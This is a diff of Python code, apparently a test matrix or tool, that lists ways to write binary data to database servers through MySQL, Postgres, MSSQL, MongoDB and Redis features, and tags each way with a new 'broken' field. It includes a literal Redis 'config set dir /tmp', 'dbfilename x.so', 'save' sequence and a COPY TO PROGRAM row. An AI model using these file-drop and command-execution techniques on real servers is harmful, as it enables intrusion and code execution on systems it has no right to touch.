@@ -200,31 +200,48 @@ def redis_pieces(attack: Attack, data: bytes) -> None:
 def rows() -> Iterator[Vector]:
     """Yield the rows."""
     events = "what is smaller stands in the events"
-    yield Vector("mysql", "INTO DUMPFILE, 0x…", dumpfile(lambda data: b"0x" + hexadecimal(data) if data else b"''"))
-    yield Vector("mysql", "INTO DUMPFILE, text", dumpfile(mysql_text))
     yield Vector(
-        "mysql", "INTO DUMPFILE, from_base64", dumpfile(lambda data: b"from_base64('%s')" % base64.b64encode(data))
+        "mysql",
+        "INTO DUMPFILE, 0x…",
+        dumpfile(lambda data: b"0x" + hexadecimal(data) if data else b"''"),
+        broken="encoded",
     )
-    yield Vector("mysql", "INSERT, UPDATE concat, INTO DUMPFILE", piece_by_piece, 1)
-    yield Vector("mysql", "left in a table", left_in_a_table, 512, why=events)
-    yield Vector("postgres", "lo_from_bytea, lo_export", large_object)
-    yield Vector("postgres", "pg_largeobject page by page", pages)
-    yield Vector("postgres", "lo_put with parameters", parameters)
-    yield Vector("postgres", "left in a large object", left_in_an_object)
-    yield Vector("postgres", "COPY TO a file, binary", copy_in_binary, form=copied)
+    yield Vector("mysql", "INTO DUMPFILE, text", dumpfile(mysql_text), broken="encoded")
+    yield Vector(
+        "mysql",
+        "INTO DUMPFILE, from_base64",
+        dumpfile(lambda data: b"from_base64('%s')" % base64.b64encode(data)),
+        broken="encoded",
+    )
+    yield Vector("mysql", "INSERT, UPDATE concat, INTO DUMPFILE", piece_by_piece, 1, broken="as it is")
+    yield Vector("mysql", "left in a table", left_in_a_table, 512, why=events, broken="encoded")
+    yield Vector("postgres", "lo_from_bytea, lo_export", large_object, broken="encoded")
+    yield Vector("postgres", "pg_largeobject page by page", pages, broken="encoded")
+    yield Vector("postgres", "lo_put with parameters", parameters, broken="as it is")
+    yield Vector("postgres", "left in a large object", left_in_an_object, broken="encoded")
+    yield Vector("postgres", "COPY TO a file, binary", copy_in_binary, form=copied, broken="encoded")
     yield Vector("postgres", "COPY FROM STDIN, COPY TO a file", copy_from_the_client, 64, text_ends=b"\n")
-    yield Vector("postgres", "COPY TO PROGRAM", copy_to_a_program, 1, 4097, "what stands in one command")
-    yield Vector("mssql", "CREATE ASSEMBLY 0x…", assembly, 1)
-    yield Vector("mssql", "CREATE ASSEMBLY with a parameter", assembly_by_parameter)
-    yield Vector("mssql", "ADODB.Stream", stream, 1)
     yield Vector(
-        "mssql", "Scripting.FileSystemObject", text_stream, 64, 65_536, "a batch has 200,000 words", text_ends=b"\r\n"
+        "postgres", "COPY TO PROGRAM", copy_to_a_program, 1, 4097, "what stands in one command", broken="encoded"
     )
-    yield Vector("mssql", "left in a table", left_in_a_servers_table, 512, why=events)
-    yield Vector("mongodb", "GridFS", grid)
-    yield Vector("mongodb", "a binary value", value, 512, why=events)
+    yield Vector("mssql", "CREATE ASSEMBLY 0x…", assembly, 1, broken="encoded")
+    yield Vector("mssql", "CREATE ASSEMBLY with a parameter", assembly_by_parameter, broken="encoded")
+    yield Vector("mssql", "ADODB.Stream", stream, 1, broken="encoded")
+    yield Vector(
+        "mssql",
+        "Scripting.FileSystemObject",
+        text_stream,
+        64,
+        65_536,
+        "a batch has 200,000 words",
+        text_ends=b"\r\n",
+        broken="encoded",
+    )
+    yield Vector("mssql", "left in a table", left_in_a_servers_table, 512, why=events, broken="encoded")
+    yield Vector("mongodb", "GridFS", grid, broken="encoded")
+    yield Vector("mongodb", "a binary value", value, 512, why=events, broken="encoded")
     saved = (b"config set dir /tmp", b"config set dbfilename x.so", b"save")
     yield Vector("redis", "SET, CONFIG SET, SAVE", redis(*saved, before=(b"SET", b"x")), inside=True)
-    yield Vector("redis", "APPEND, CONFIG SET, SAVE", redis_pieces, 1, inside=True)
+    yield Vector("redis", "APPEND, CONFIG SET, SAVE", redis_pieces, 1, inside=True, broken="as it is")
     yield Vector("redis", "EVAL", redis(before=(b"EVAL",)))
     yield Vector("redis", "SCRIPT LOAD", redis(before=(b"SCRIPT", b"LOAD")))
